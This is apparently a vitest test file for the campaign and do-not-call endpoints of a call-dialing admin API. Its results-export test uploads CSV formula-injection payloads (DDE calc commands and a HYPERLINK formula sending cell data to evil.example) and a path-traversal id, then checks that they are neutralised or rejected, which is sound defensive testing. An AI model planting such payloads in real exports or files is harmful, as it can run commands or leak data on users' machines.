// The campaign and do-not-call routes of the admin API on a real server, its dialer driven by a
// fast fake carrier: every route, every malformed body, row and parameter, and the lifecycle.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { callRecordFixture } from '../helpers/call-record.js';
import { startServer, type TestServer } from '../helpers/server.js';
import { QuickCarrier } from '../outbound/quick-carrier.js';

const TOKEN = 'admin-token-for-campaign-tests';
const ENV = { AGENT_URL: 'ws://127.0.0.1:9', AGENT_API_KEY: 'test-key', ADMIN_TOKEN: TOKEN };

let server: TestServer;
let bare: TestServer;
let carrier: QuickCarrier;

beforeAll(async () => {
  carrier = new QuickCarrier();
  server = await startServer(ENV, { originator: carrier, dialerOptions: { idlePollMs: 20 } });
  carrier.dialer = server.app.callbridge.outbound.dialer;
  bare = await startServer(ENV);
});
afterAll(async () => {
  carrier.close();
  await server?.close();
  await bare?.close();
});

interface Answer {
  status: number;
  body: any; // eslint-disable-line @typescript-eslint/no-explicit-any
  text: string;
  headers: Headers;
}

async function call(
  method: string,
  path: string,
  opts: { json?: unknown; body?: string; type?: string; token?: string | null; base?: string } = {},
): Promise<Answer> {
  const headers: Record<string, string> = {};
  if (opts.token !== null) headers.authorization = `Bearer ${opts.token ?? TOKEN}`;
  let body: string | undefined;
  if (opts.json !== undefined) {
    body = JSON.stringify(opts.json);
    headers['content-type'] = 'application/json';
  } else if (opts.body !== undefined) {
    body = opts.body;
    headers['content-type'] = opts.type ?? 'text/csv';
  }
  const res = await fetch(`${opts.base ?? server.baseUrl}${path}`, { method, headers, body });
  const text = await res.text();
  let parsed: unknown = null;
  try {
    parsed = JSON.parse(text);
  } catch {
    parsed = null;
  }
  return { status: res.status, body: parsed, text, headers: res.headers };
}

const expectError = (answer: Answer, status: number, code: string, message?: string | RegExp) => {
  expect(answer.status, answer.text).toBe(status);
  expect(answer.body.error.code).toBe(code);
  if (message !== undefined) expect(answer.body.error.message).toMatch(message);
  expect(answer.text).not.toContain(TOKEN);
  expect(answer.text).not.toMatch(/\bat \S+\.(ts|js):\d+/);
};

async function createCampaign(extra: Record<string, unknown> = {}) {
  const answer = await call('POST', '/v1/campaigns', { json: { name: 'renewals', ...extra } });
  expect(answer.status, answer.text).toBe(201);
  return answer.body.id as string;
}

async function waitFor<T>(
  probe: () => Promise<T | null | false>,
  what: string,
  timeoutMs = 10_000,
): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value) return value;
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

describe('authentication', () => {
  it('refuses every campaign and do-not-call route without the admin token', async () => {
    for (const [method, path] of [
      ['GET', '/v1/campaigns'],
      ['POST', '/v1/campaigns'],
      ['GET', '/v1/campaigns/cmp_abc/results.csv'],
      ['POST', '/v1/dnc'],
      ['GET', '/v1/dnc/+12125550100'],
      ['DELETE', '/v1/dnc/+12125550100'],
    ] as const) {
      expectError(await call(method, path, { token: null }), 401, 'CALLBRIDGE_UNAUTHORIZED');
      expectError(
        await call(method, path, { token: 'x'.repeat(TOKEN.length) }),
        401,
        'CALLBRIDGE_UNAUTHORIZED',
      );
    }
  });
});

describe('POST /v1/campaigns', () => {
  it('creates a draft with every default filled', async () => {
    const answer = await call('POST', '/v1/campaigns', {
      json: { name: 'renewals', pacing: { callsPerSecond: 2 } },
    });
    expect(answer.status).toBe(201);
    expect(answer.body).toMatchObject({
      id: expect.stringMatching(/^cmp_[0-9a-f]{20}$/),
      name: 'renewals',
      state: 'draft',
      profile: 'default',
      pacing: { callsPerSecond: 2, maxConcurrent: 10 },
      startedAt: null,
      pause: null,
      progress: { contacts: { total: 0 }, inFlight: 0, etaSeconds: null },
    });
    const fetched = await call('GET', `/v1/campaigns/${answer.body.id}`);
    expect(fetched.body.createdAt).toBe(answer.body.createdAt);
  });

  it('answers each malformed body with one clear 400 (or 415 for a type it does not read)', async () => {
    expectError(
      await call('POST', '/v1/campaigns', { body: '{"name": ', type: 'application/json' }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
    );
    expectError(
      await call('POST', '/v1/campaigns', { body: '', type: 'application/json' }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
    );
    expectError(
      await call('POST', '/v1/campaigns', { json: [] }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      /must be an object/,
    );
    expectError(
      await call('POST', '/v1/campaigns', {
        json: { name: 'x', pacing: { callsPerSecond: 1000 }, surprise: 1 },
      }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      'invalid campaign: surprise: unknown field; pacing.callsPerSecond: must be a number from 0.01 to 100, got 1000',
    );
    expectError(
      await call('POST', '/v1/campaigns', { body: 'name,x', type: 'text/csv' }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
    );
    expectError(
      await call('POST', '/v1/campaigns', { body: 'name=x', type: 'text/plain' }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
    );
    expectError(
      await call('POST', '/v1/campaigns', { body: '<name/>', type: 'application/xml' }),
      415,
      'CALLBRIDGE_UNSUPPORTED_MEDIA_TYPE',
    );
  });
});

describe('GET /v1/campaigns', () => {
  it('lists newest first, page by page', async () => {
    const ids = [
      await createCampaign({ name: 'a' }),
      await createCampaign({ name: 'b' }),
      await createCampaign({ name: 'c' }),
    ];
    const first = await call('GET', '/v1/campaigns?limit=2');
    expect(first.status).toBe(200);
    expect(first.body.campaigns.map((c: { id: string }) => c.id)).toEqual([ids[2], ids[1]]);
    const second = await call('GET', `/v1/campaigns?limit=2&cursor=${first.body.nextCursor}`);
    expect(second.body.campaigns[0].id).toBe(ids[0]);
  });

  it.each([
    ['limit=0', 'limit must be an integer from 1 to 100'],
    ['limit=abc', 'limit must be an integer from 1 to 100'],
    ['limit=101', 'limit must be an integer from 1 to 100'],
    ['limit=1&limit=2', 'limit may be given once'],
    ['cursor=not-a-cursor', 'cursor is not one a previous page handed out'],
    [`cursor=${'x'.repeat(2_000)}`, 'cursor is not one a previous page handed out'],
    ['state=done', 'unknown query parameter "state"; known: limit, cursor'],
  ])('refuses ?%s', async (query, message) => {
    expectError(await call('GET', `/v1/campaigns?${query}`), 400, 'CALLBRIDGE_BAD_REQUEST', message);
  });

  it('answers 404 for a campaign that does not exist, whatever its id looks like', async () => {
    for (const id of ['cmp_0000', 'nope', '..%2F..%2Fetc', 'x'.repeat(90), '%00']) {
      expectError(await call('GET', `/v1/campaigns/${id}`), 404, 'CALLBRIDGE_NOT_FOUND');
    }
  });
});

describe('POST /v1/campaigns/:id/contacts', () => {
  it('adds CSV rows and reports each rejected row with its reason', async () => {
    const id = await createCampaign();
    const csv = 'phone,first_name\n+12125550100,Ada\n12345,Bad\n+12125550100,Again\n+12125550101,Grace\n';
    const answer = await call('POST', `/v1/campaigns/${id}/contacts`, { body: csv });
    expect(answer.status, answer.text).toBe(200);
    expect(answer.body).toEqual({
      added: 2,
      rejected: [
        { row: 3, reason: 'phone is not in E.164 (+ and the country code); add a country column' },
        { row: 4, reason: 'duplicate of row 2' },
      ],
    });
    const again = await call('POST', `/v1/campaigns/${id}/contacts`, {
      json: [{ phone: '+12125550101' }, { phone: '+12125550102', first_name: 'Alan' }],
    });
    expect(again.body).toEqual({ added: 1, rejected: [{ row: 1, reason: 'already in the campaign' }] });
    const view = await call('GET', `/v1/campaigns/${id}`);
    expect(view.body.progress.contacts).toMatchObject({ total: 4, pending: 3, done: 1 });
    expect(view.body.progress.outcomes.invalid).toBe(1);
  });

  it('refuses a contact with no value for a placeholder the campaign will speak', async () => {
    // A placeholder with no value is found when contacts are added, never on a live call.
    const id = await createCampaign({
      amd: { mode: 'voicemail', voicemail: { text: 'Hi {{first_name}}, call us back.' } },
    });
    const answer = await call('POST', `/v1/campaigns/${id}/contacts`, {
      body: 'phone,first_name\n+12125550100,Ada\n+12125550101,\n',
    });
    expect(answer.body).toEqual({
      added: 1,
      rejected: [{ row: 3, reason: 'no value for {{first_name}} (used in the voicemail)' }],
    });
  });

  it('answers malformed uploads with a 400, odd types with a 415, and a huge body with a 413', async () => {
    const id = await createCampaign();
    const path = `/v1/campaigns/${id}/contacts`;
    expectError(await call('POST', path, { body: '' }), 400, 'CALLBRIDGE_BAD_REQUEST', /empty/);
    expectError(
      await call('POST', path, { body: 'name\nAda\n' }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      'contacts CSV: the header has no phone column',
    );
    expectError(
      await call('POST', path, { body: 'phone\n"+1212' }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      /never closed/,
    );
    expectError(
      await call('POST', path, { json: { phone: '+12125550100' } }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      /JSON array/,
    );
    expectError(
      await call('POST', path, { body: '[1,', type: 'application/json' }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
    );
    expectError(
      await call('POST', path, { body: '<contacts/>', type: 'application/xml' }),
      415,
      'CALLBRIDGE_UNSUPPORTED_MEDIA_TYPE',
    );
    expectError(
      await call('POST', path, { body: `phone\n${'+12125550100\n'.repeat(1_500_000)}` }),
      413,
      'CALLBRIDGE_BODY_TOO_LARGE',
    );
    expectError(
      await call('POST', '/v1/campaigns/cmp_missing/contacts', { body: 'phone\n+12125550100\n' }),
      404,
      'CALLBRIDGE_NOT_FOUND',
    );
  });
});

describe('the lifecycle', () => {
  it('runs draft → running ⇄ paused → completed, refusing transitions the state forbids', async () => {
    // Two calls a second: six contacts take over two seconds, so the pause lands while it runs.
    const id = await createCampaign({ pacing: { callsPerSecond: 2, maxConcurrent: 5 } });
    expectError(
      await call('POST', `/v1/campaigns/${id}/start`),
      409,
      'CALLBRIDGE_CONFLICT',
      /no contacts to call/,
    );
    expectError(
      await call('POST', `/v1/campaigns/${id}/pause`),
      409,
      'CALLBRIDGE_CONFLICT',
      /is draft; pause needs a campaign that is running/,
    );
    await call('POST', `/v1/campaigns/${id}/contacts`, {
      body: 'phone\n+12125550100\n+12125550150\n+12125550175\n+12125550185\n+12125550195\n+12125550101\n',
    });
    const started = await call('POST', `/v1/campaigns/${id}/start`);
    expect(started.status, started.text).toBe(200);
    expect(started.body.state).toBe('running');
    expectError(await call('POST', `/v1/campaigns/${id}/start`), 409, 'CALLBRIDGE_CONFLICT');
    const paused = await call('POST', `/v1/campaigns/${id}/pause`);
    expect(paused.body).toMatchObject({
      state: 'paused',
      pause: { by: 'operator', reason: 'paused by an operator' },
    });
    expectError(await call('POST', `/v1/campaigns/${id}/pause`), 409, 'CALLBRIDGE_CONFLICT');
    expect((await call('POST', `/v1/campaigns/${id}/resume`)).body).toMatchObject({
      state: 'running',
      pause: null,
    });
    const done = await waitFor(async () => {
      const view = await call('GET', `/v1/campaigns/${id}`);
      return view.body.state === 'completed' && view.body;
    }, 'the campaign to complete');
    // Without detection a voicemail greeting is a conversation like any other (…50).
    expect(done.progress.outcomes).toMatchObject({ completed: 3, busy: 1, no_answer: 1, failed: 1 });
    expect(done.endedAt).not.toBeNull();
    expectError(await call('POST', `/v1/campaigns/${id}/cancel`), 409, 'CALLBRIDGE_CONFLICT');
    expectError(
      await call('POST', `/v1/campaigns/${id}/contacts`, { body: 'phone\n+12125550102\n' }),
      409,
      'CALLBRIDGE_CONFLICT',
    );

    const contacts = await call('GET', `/v1/campaigns/${id}/contacts?state=done&limit=2`);
    expect(contacts.body.contacts).toHaveLength(2);
    expect(contacts.body.contacts[0]).toMatchObject({
      id: 1,
      phone: '+12125550100',
      state: 'done',
      outcome: 'completed',
      attempts: [
        { number: 1, outcome: 'completed', answeredBy: 'human', callSid: expect.stringMatching(/^CAquick/) },
      ],
    });
    const rest = await call(
      'GET',
      `/v1/campaigns/${id}/contacts?state=done&cursor=${contacts.body.nextCursor}`,
    );
    expect(rest.body.contacts.map((c: { id: number }) => c.id)).toEqual([3, 4, 5, 6]);
  });

  it('cancels a running campaign: its live calls are hung up, its waiting contacts end cancelled', async () => {
    const slow = new QuickCarrier(1);
    const slowServer = await startServer(ENV, { originator: slow, dialerOptions: { idlePollMs: 20 } });
    slow.dialer = slowServer.app.callbridge.outbound.dialer;
    try {
      const answer = await fetch(`${slowServer.baseUrl}/v1/campaigns`, {
        method: 'POST',
        headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'to cancel', pacing: { callsPerSecond: 100, maxConcurrent: 3 } }),
      });
      const { id } = (await answer.json()) as { id: string };
      const base = slowServer.baseUrl;
      await call('POST', `/v1/campaigns/${id}/contacts`, {
        base,
        body: `phone\n${['00', '01', '02', '03', '04', '05'].map((t) => `+121255501${t}`).join('\n')}\n`,
      });
      await call('POST', `/v1/campaigns/${id}/start`, { base });
      await waitFor(async () => slow.dials.length === 3, 'three calls in flight');
      const cancelled = await call('POST', `/v1/campaigns/${id}/cancel`, { base });
      expect(cancelled.body.state).toBe('cancelled');
      expect(slow.hangups).toHaveLength(3);
      const view = await waitFor(async () => {
        const v = await call('GET', `/v1/campaigns/${id}`, { base });
        return v.body.progress.inFlight === 0 && v.body;
      }, 'the hung-up calls to end');
      expect(view.progress.outcomes.cancelled).toBe(6);
      expect(slow.dials).toHaveLength(3);
    } finally {
      slow.close();
      await slowServer.close();
    }
  });

  it('answers 503 to a start where no carrier can place calls', async () => {
    const answer = await call('POST', '/v1/campaigns', { base: bare.baseUrl, json: { name: 'x' } });
    await call('POST', `/v1/campaigns/${answer.body.id}/contacts`, {
      base: bare.baseUrl,
      body: 'phone\n+12125550100\n',
    });
    expectError(
      await call('POST', `/v1/campaigns/${answer.body.id}/start`, { base: bare.baseUrl }),
      503,
      'CALLBRIDGE_UNAVAILABLE',
    );
  });

  it.each([
    ['state=bogus', 'state must be one of pending, dialing, retry, done'],
    ['limit=500', 'limit must be an integer from 1 to 200'],
    ['cursor=zzz', 'cursor is not one a previous page handed out'],
    ['sort=phone', 'unknown query parameter "sort"'],
  ])('refuses contacts?%s', async (query, message) => {
    const id = await createCampaign();
    expectError(
      await call('GET', `/v1/campaigns/${id}/contacts?${query}`),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      message,
    );
  });
});

describe('GET /v1/campaigns/:id/results.csv', () => {
  it('has one row per contact with its variables, attempts, outcome, duration, answerer, summary and analysis', async () => {
    const id = await createCampaign({ pacing: { callsPerSecond: 50, maxConcurrent: 10 } });
    await call('POST', `/v1/campaigns/${id}/contacts`, {
      body: 'phone,first_name,note\n+12125550100,Ada,=1+1\n+12125550175,Alan,\nnot-a-number,Bad,\n',
    });
    await call('POST', `/v1/campaigns/${id}/start`);
    await waitFor(
      async () => (await call('GET', `/v1/campaigns/${id}`)).body.state === 'completed',
      'completion',
    );
    // The first contact's call has been analysed since (the analysis lands in its record).
    const contacts = (await call('GET', `/v1/campaigns/${id}/contacts`)).body as {
      contacts: Array<{ phone: string; attempts: Array<{ callSid: string | null }> }>;
    };
    const analysedSid = contacts.contacts.find((c) => c.phone === '+12125550100')!.attempts[0]!.callSid!;
    await server.store.saveCallRecord(
      callRecordFixture(analysedSid, {
        streamSid: 'MZ1',
        direction: 'outbound',
        from: '+15550100',
        to: '+12125550100',
        profile: 'default',
        durationMs: 20_000,
        endReason: 'end_call',
        analysis: {
          outcome: 'ok',
          summary: 'The caller renewed.',
          sentiment: 'positive',
          topics: ['renewal', 'pricing'],
          intents: ['=renew'],
          attempts: 1,
          at: new Date().toISOString(),
        },
      }),
    );
    const answer = await fetch(`${server.baseUrl}/v1/campaigns/${id}/results.csv`, {
      headers: { authorization: `Bearer ${TOKEN}` },
    });
    expect(answer.status).toBe(200);
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="results-${id}.csv"`);
    expect((await answer.text()).split('\n')).toEqual([
      'phone,first_name,note,attempts,state,outcome,duration_seconds,answered_by,summary,note,sentiment,topics,intents,analysis',
      "+12125550100,Ada,'=1+1,1,done,completed,20,human,spoke with the person callee,,positive,renewal; pricing,'=renew,ok",
      '+12125550175,Alan,,1,done,busy,0,,,,,,,',
      'not-a-number,Bad,,0,done,invalid,,,,phone is not in E.164 (+ and the country code); add a country column,,,,',
      '',
    ]);
  });

  it('neutralises every formula cell, phones written as uploaded included, and keeps E.164 phones readable', async () => {
    // Invariant: no cell of the export is run as a formula by a spreadsheet, whichever column it is in.
    const id = await createCampaign();
    const upload = [
      "phone,company,=cmd|' /C calc'!A0",
      '"=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",x,y',
      '@SUM(1),x,y',
      "-2+3+cmd|' /C calc'!A0,x,y",
      "+1+cmd|' /C calc'!A0,x,y",
      '+12125550100,"\t=1+1"," @SUM(1)"',
      '+12125550101,"-1+1",+44 20 7123 4567',
    ].join('\n');
    const added = await call('POST', `/v1/campaigns/${id}/contacts`, { body: `${upload}\n` });
    expect(added.status).toBe(200);
    const answer = await fetch(`${server.baseUrl}/v1/campaigns/${id}/results.csv`, {
      headers: { authorization: `Bearer ${TOKEN}` },
    });
    const rows = parse(await answer.text(), { relax_column_count: true }) as string[][];
    const cells = rows.flat();
    const live = cells.filter((cell) => /^[\s]*[=+\-@]|^[\t\r]/.test(cell) && !/^[+-]?\d+$/.test(cell));
    expect(live).toEqual([]);
    expect(rows.map((row) => row[0])).toEqual([
      'phone',
      // An invalid phone is kept as written, cut at 40 characters.
      '\'=HYPERLINK("http://evil.example/?x="&A1,',
      "'@SUM(1)",
      "'-2+3+cmd|' /C calc'!A0",
      "'+1+cmd|' /C calc'!A0",
      '+12125550100',
      '+12125550101',
    ]);
    expect(rows[0]![2]).toBe("'=cmd|' /C calc'!A0");
    // Variables are trimmed at upload: what remains is neutralised.
    expect(rows[5]!.slice(1, 3)).toEqual(["'=1+1", "'@SUM(1)"]);
    // Only a plain number passes as written: a phone with spaces is a formula to a spreadsheet.
    expect(rows[6]!.slice(1, 3)).toEqual(["'-1+1", "'+44 20 7123 4567"]);
  });

  it('answers 404 for an unknown campaign', async () => {
    expectError(await call('GET', '/v1/campaigns/cmp_nothing/results.csv'), 404, 'CALLBRIDGE_NOT_FOUND');
  });
});

describe('the do-not-call list', () => {
  it('adds numbers as JSON or CSV, finds and removes them', async () => {
    const added = await call('POST', '/v1/dnc', {
      json: { numbers: ['+12125550160', '+1 212 555 0161', 'junk'] },
    });
    expect(added.body).toEqual({
      added: 2,
      alreadyListed: 0,
      rejected: [{ row: 3, reason: 'phone is not a valid number' }],
    });
    const csv = await call('POST', '/v1/dnc', {
      body: 'phone,country\n(212) 555-0161,US\n020 7946 0958,GB\n,\n',
    });
    expect(csv.body).toEqual({
      added: 1,
      alreadyListed: 1,
      rejected: [{ row: 4, reason: 'phone is empty' }],
    });
    const found = await call('GET', '/v1/dnc/%2B12125550161');
    expect(found.body).toMatchObject({ number: '+12125550161', listed: true, addedAt: expect.any(String) });
    expect((await call('DELETE', '/v1/dnc/+12125550161')).status).toBe(204);
    expectError(await call('GET', '/v1/dnc/+12125550161'), 404, 'CALLBRIDGE_NOT_FOUND');
    expectError(await call('DELETE', '/v1/dnc/+12125550161'), 404, 'CALLBRIDGE_NOT_FOUND');
  });

  it('answers each malformed request with a 400', async () => {
    expectError(
      await call('POST', '/v1/dnc', { json: { numbers: [] } }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      /numbers/,
    );
    expectError(
      await call('POST', '/v1/dnc', { json: { numbers: 'x' } }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      /numbers: must be an array/,
    );
    expectError(
      await call('POST', '/v1/dnc', { json: { numbers: ['+1'], more: 1 } }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      /more: unknown field/,
    );
    expectError(await call('POST', '/v1/dnc', { json: ['+12125550100'] }), 400, 'CALLBRIDGE_BAD_REQUEST');
    expectError(
      await call('POST', '/v1/dnc', { body: 'number\n+12125550100\n' }),
      400,
      'CALLBRIDGE_BAD_REQUEST',
      /no phone column/,
    );
    expectError(await call('GET', '/v1/dnc/12125550100'), 400, 'CALLBRIDGE_BAD_REQUEST', /E\.164/);
    expectError(await call('GET', '/v1/dnc/%2Bnot-a-number'), 400, 'CALLBRIDGE_BAD_REQUEST');
    expectError(await call('DELETE', '/v1/dnc/abc'), 400, 'CALLBRIDGE_BAD_REQUEST');
  });
});
